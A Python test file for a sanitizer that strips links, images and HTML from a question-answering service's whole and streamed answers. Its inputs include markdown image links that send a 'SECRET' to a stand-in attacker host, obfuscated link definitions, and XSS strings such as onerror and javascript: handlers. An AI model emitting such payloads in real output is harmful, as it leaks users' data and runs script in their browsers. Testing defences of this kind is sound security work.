"""Removing links and HTML from answers, whole and streamed."""

import random
import re
import time
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from ragtune_ray.answering.citations import parse_citations
from ragtune_ray.schema import Passage
from ragtune_ray.serving.sanitizing import LINK_REMOVED, AnswerText, without_links

PASSAGES = [Passage(f"d#{n}", "d", "text", "", "{}", 0, 4) for n in range(3)]
ATOMS = [
    "[1]", "[2]", " [1].", "[", "]", "(", ")", "![", "](", "http://evil.example/x?y=1", "https://nasa.gov/a", "www.evil.example",
    " ", "  ", ".", ",", "Paris", "the", "<img src=x>", "<b>", "<", "5 < 6", "\n", "\n\n", "[1969]", "月球", "。", "【1】", "【", "!",
    "[a]: http://evil.example", "a", "(see [1])", "javascript:alert(1)", "?", "'", "data:", "://", "HTTP", "s",
    "`", "``", "```\n", "\n```py\n", "~~~\n", "arr", "[0]", "mg", "=", "［1］", "x", " and",
    "Map<String", "<command>", "list[i](x)", "</T>", "<std::x>", "=",
    "[a]", "[a]:", "]:", ":", "> ", "- ", "//evil.example/q",
]  # fmt: skip
texts = st.lists(st.sampled_from(ATOMS), max_size=14).map("".join)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/?q=SECRET)", "x"),
        ("![](https://evil.example/?q=SECRET)", ""),
        ("[the Moon](http://evil.example)", "the Moon"),
        ("[![logo](http://a.example/i.png)](http://b.example)", "logo"),
        ('[a](<http://evil.example/a b> "title")', "a"),
        ("[a](http://evil.example/(b)c)", "a"),
        ("[a](//evil.example)", "a"),
        ("[a](/local?q=1)", "a"),
        ("See [a][1x].\n[1x]: http://evil.example", "See [a][1x].\n"),
        ("<img src=http://evil.example/x onerror=alert(1)>", ""),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<http://evil.example>", f"<{LINK_REMOVED}>"),
        ("ht<b>tp://evil.example", f"ht{LINK_REMOVED}"),
        ("<img src='x' onload='y'", "< img src='x' onload='y'"),
        ("Visit http://evil.example/a?b=c.", f"Visit {LINK_REMOVED}."),
        ("Visit WWW.evil.example", f"Visit {LINK_REMOVED}"),
        ("javascript:alert(1)", LINK_REMOVED),
        ("https://nasa.gov.evil.example/", LINK_REMOVED),
        ("https://nasa.gov@evil.example/", LINK_REMOVED),
        ("https://nasa.gov\\@evil.example/", LINK_REMOVED),
        ("ftp://nasa.gov/x", LINK_REMOVED),
        ("https://nasa.gov/moon?a=1, then", "https://nasa.gov/moon?a=1, then"),
        ("[NASA](https://nasa.gov/moon)", "NASA"),
        ("3 < 5 and a[0](x)", "3 < 5 and a[0](x)"),
        ("Map<String, Integer>", "Map<String, Integer>"),
        ("Run <command> now", "Run <command> now"),
        ("Vec<T> and f</T>", "Vec<T> and f</T>"),
        ("list[i](x)", "list[i](x)"),
        ("list[i](x.example/y)", "listi"),
        ("[i](x)", "i"),
        ("![i](x)", "i"),
        ("[Note]: it rains", "[Note] : it rains"),
        ("<foo onclick=alert(1)>", "< foo onclick=alert(1)>"),
        ("<me@evil.example>", "< me@evil.example>"),
        ("<std::x>", "< std::x>"),
        ("<SCRIPT >x</sCript\n>", "x"),
        ("<img/src=x>", ""),
        ("<a, b>", "<a, b>"),
        ("Is 2 > 1? Yes! [sic] At 10:30, ratio 3:4.", "Is 2 > 1? Yes! [sic] At 10:30, ratio 3:4."),
    ],
)
def test_links_images_and_tags_are_removed(text: str, expected: str) -> None:
    assert without_links(text, ["nasa.gov"]) == expected


@given(texts)
def test_no_text_renders_as_a_link_or_image_afterwards(text: str) -> None:
    clean = without_links(text)
    assert not re.search(r"(?<![\w)])\[[^\[\]]*\]\(", clean)
    assert "]:" not in clean
    assert "![" not in clean
    assert not re.search(r"<[!?]|</?[A-Za-z][^<>]*=", clean)
    rendered = HTMLParser(MarkdownIt("commonmark", {"html": True}).render(clean))
    named = {node.tag for node in rendered.css("body *")}
    assert not named & {"img", "script", "b", "i", "iframe", "svg", "style", "form"}, "as a browser would read it"
    for link in rendered.css("a"):
        assert re.fullmatch(r"[\w ,+*-]*", unquote(link.attributes.get("href") or "")), "leads to no other site"
    assert not re.search(r"(?i)[a-z][a-z0-9+.-]+://|\bjavascript:\S|\bwww\.", clean)
    assert without_links(clean) == clean


DEFINITIONS = [
    "[click here]\n\n[click here]:\n//evil.example/?q=SECRET",
    "> [x]: //evil.example/q\n\nSee [x].",
    "- [x]: //evil.example/q\n\nSee [x].",
    "1. > [x]:\n   > //evil.example/q\n\nSee [x].",
    "See [x].\n\n[x]:\nhttps\\://evil.example/q",
    "See [x].\n\n[x]:\nhttps&colon;//evil.example/q",
    "See ![x].\n\n[x]:\n<//evil.example/q>",
    "See [x\ny].\n\n[x\ny]: //evil.example/q",
    "See [a\\]b].\n\n[a\\]b]: //evil.example/q",
    "See [x].\n\n> [x][1]: //evil.example/q",
    "See [x].\n\n> [x]<b>: //evil.example/q",
]


@pytest.mark.parametrize("raw", DEFINITIONS)
def test_no_reference_definition_remains_a_link(raw: str) -> None:
    text = AnswerText(PASSAGES)
    streamed = "".join(map(text.add, raw)) + text.end()
    assert streamed == text.whole()
    assert not re.search(r"<(?:a|img)\b", MarkdownIt().render(streamed))


@settings(max_examples=300, deadline=None)
@given(texts, st.lists(st.integers(1, 9), min_size=1))
def test_pieces_of_a_stream_add_up_to_the_whole_answer(raw: str, sizes: list[int]) -> None:
    text, pieces, start = AnswerText(PASSAGES, ["nasa.gov"]), [], 0
    while start < len(raw):
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(text.add(raw[start : start + size]))
        start += size
    assert "".join([*pieces, text.end()]) == text.whole()
    assert text.whole() == without_links(parse_citations(raw.strip(), PASSAGES)[0], ["nasa.gov"])


@pytest.mark.parametrize(
    "raw",
    [
        "Look at [the Moon (Luna) seen today](https://evil.example/) now.",
        "See [a [b] c d e](http://evil.example) after all.",
        'See [a](http://evil.example/q(r) "one two three") after all.',
        "A [b c <i>d</i> e f g](http://evil.example) h i.",
        "The data:。And more of it.",
    ],
)
def test_text_inside_a_link_does_not_end_a_stream_early(raw: str) -> None:
    text = AnswerText(PASSAGES)
    assert "".join(map(text.add, raw)) + text.end() == text.whole()


def test_an_answer_without_links_equals_that_of_the_bulk_job() -> None:
    raw = " It was 1969 [1], said  NASA (see [2]). 嫦娥四号【3】。"
    text = AnswerText(PASSAGES)
    text.add(raw)
    assert text.whole() == parse_citations(raw.strip(), PASSAGES)[0]


def test_an_unfinished_mark_of_a_cut_answer_is_not_shown() -> None:
    text = AnswerText(PASSAGES)
    pieces = [text.add(piece) for piece in ["It was", " 1969 [1]", ". And [", "2"]]
    assert "".join([*pieces, text.end(cut=True)]) == text.whole(cut=True) == "It was 1969. And"
    assert text.whole() == "It was 1969. And [2"


def test_words_are_shown_while_they_arrive() -> None:
    text = AnswerText(PASSAGES)
    shown = [text.add(piece) for piece in ["The", " Moon", " orbits", " the", " Earth", "."]]
    assert shown == ["", "The", " Moon", " orbits", " the", ""]
    assert text.end() == " Earth."
    assert [AnswerText(PASSAGES).add(piece) for piece in ("月球绕着",)] == ["月球绕着"]
    assert AnswerText(PASSAGES).add("Yes! As 5 < 6, the Moon orbits") == "Yes! As 5 < 6, the Moon"


def test_hostile_text_is_sanitized_in_time() -> None:
    source = random.Random(0)
    for text in [
        "[" * 4000,
        "![a](" * 800,
        "<a" * 2000,
        "http://" * 600,
        "".join(source.choices("[]()<>!:/.a ", k=4000)),
    ]:
        started = time.perf_counter()
        without_links(text)
        answer = AnswerText(PASSAGES)
        answer.add(text)
        answer.end()
        assert time.perf_counter() - started < 2.0, text[:20]


@pytest.mark.parametrize("run", ["-", "A1+/", "a.", "[a]", "【1】", "(", "<a", "<月", "月"])
def test_the_cost_of_a_piece_grows_linearly_with_the_answer(run: str) -> None:
    def seconds(length: int) -> float:
        """CPU time of a few pieces after a run of characters: the minimum of three attempts, as other load only adds to it."""
        attempts = []
        for _ in range(3):
            text = AnswerText(PASSAGES)
            text.add("x " + (run * length)[:length])
            started = time.process_time()
            for _ in range(3):
                text.add(" w")
            attempts.append(time.process_time() - started)
        return min(attempts)

    assert seconds(8000) < 0.01 + 16 * seconds(1000), "8 times the length may cost about 8 times the work, not 64"
